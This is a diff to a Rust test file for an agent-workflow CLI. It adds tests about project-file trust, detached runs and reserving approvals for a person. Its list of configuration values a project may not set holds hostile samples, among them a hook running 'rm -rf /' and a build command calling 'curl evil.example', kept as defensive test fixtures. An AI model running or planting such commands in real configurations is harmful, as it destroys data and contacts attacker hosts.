@@ -83,6 +83,7 @@ const FORBIDDEN: &[(&str, &str)] = &[
     ("[files]\nroots = [\"/\"]\n", "files.roots"),
     ("[files]\nextensions = [\"pem\"]\n", "files.extensions"),
     ("[files]\ndeny = []\n", "files.deny"),
+    ("[approvals]\ndecider = \"any\"\n", "approvals.decider"),
     ("[hooks]\nbefore_run = \"rm -rf /\"\n", "hooks.before_run"),
     ("[commands]\nbuild = \"curl evil.example\"\n", "commands.build"),
     ("hooks = [\"x\"]\n", "hooks"),
@@ -175,6 +176,7 @@ fn trust_lets_a_projects_file_count_until_it_changes() {
     assert!(!names());
     let trusted = json(&place, &["trust", ".", "--json"], &[]);
     assert_eq!((&trusted["changed"], &trusted["trusted"][0]["state"]), (&json!(dir), &json!("trusted")));
+    assert_eq!(trusted["counts"], json!(["provider", "providers.ours.base_url"]));
     assert!(names());
     assert_eq!(checks(&place, "project file", &[])[0].0, "ok");
     // Nothing of the user's, no trust either.
@@ -279,8 +281,36 @@ fn the_examples_of_the_page_about_configuration_are_read() {
     let keys = "provider = \"fake\"\nmodel = \"m\"\n[aliases.openai]\na = \"b\"\n[limits]\nmax_calls = 1\nconcurrency = 1\n\
                 budget_tokens = 1\nbudget_cost_usd = 0.5\n[providers.x]\nkind = \"openai\"\nbase_url = \"https://x.example\"\n\
                 api_key_env = \"X_KEY\"\ndefault_model = \"m\"\nconcurrency = 1\n[providers.x.models]\na = \"b\"\n\
-                [files]\nextensions = [\"rs\"]\ndeny = [\"secret\"]\nroots = [\"/tmp\"]\n";
+                [files]\nextensions = [\"rs\"]\ndeny = [\"secret\"]\nroots = [\"/tmp\"]\n[approvals]\ndecider = \"person\"\n";
     place.file("user/.config/owf/config.toml", keys);
     assert_eq!(checks(&place, "limits", &[]).len(), 1);
     assert_eq!(provider(&place, "x", &[])["default_model"], json!("m"));
+}
+
+#[test]
+fn a_detached_run_has_the_configuration_of_the_project_it_works_in() {
+    let place = Place::new();
+    // A project's own provider, which the user trusts; the run is asked for from elsewhere.
+    place.file(
+        "project/.owf/config.toml",
+        "provider = \"ours\"\n[providers.ours]\nbase_url = \"http://127.0.0.1:1/v1\"\nmodel = \"m\"\n",
+    );
+    place.file("project/w.js", "export const meta = { name: 'w', description: 'd' }\nreturn (await owf.agent('x', { retry: { maxAttempts: 1 } })).error?.class\n");
+    json(&place, &["trust", "project", "--json"], &[]);
+    let args = ["run", "w.js", "--workspace", "project", "--detach", "--json"];
+    assert_eq!(owf(&place, &args, &[]).code, 0);
+    let done = json(&place, &["wait", "--timeout", "60", "--json"], &[]);
+    assert_eq!((&done["status"], &done["output"]), (&json!("done"), &json!("transport")), "{done}");
+}
+
+#[test]
+fn the_user_can_reserve_every_question_for_a_person() {
+    let place = Place::new();
+    place.file("user/.config/owf/config.toml", "[approvals]\ndecider = \"person\"\n");
+    place.file("ask.js", "export const meta = { name: 'ask', description: 'd' }\nreturn await owf.approve('Go on?')\n");
+    let asked = owf(&place, &["run", "ask.js", "--no-input", "--json"], &[]).json();
+    assert_eq!(asked["approvals"][0]["decider"], json!("person"), "{asked}");
+    assert_eq!(checks(&place, "approvals", &[])[0].1, "only a person decides");
+    let plain = owf(&place, &["run", "ask.js", "--no-input", "--json"], &[("OWF_CONFIG", "none")]).json();
+    assert_eq!(plain["approvals"][0]["decider"], json!("any"), "{plain}");
 }
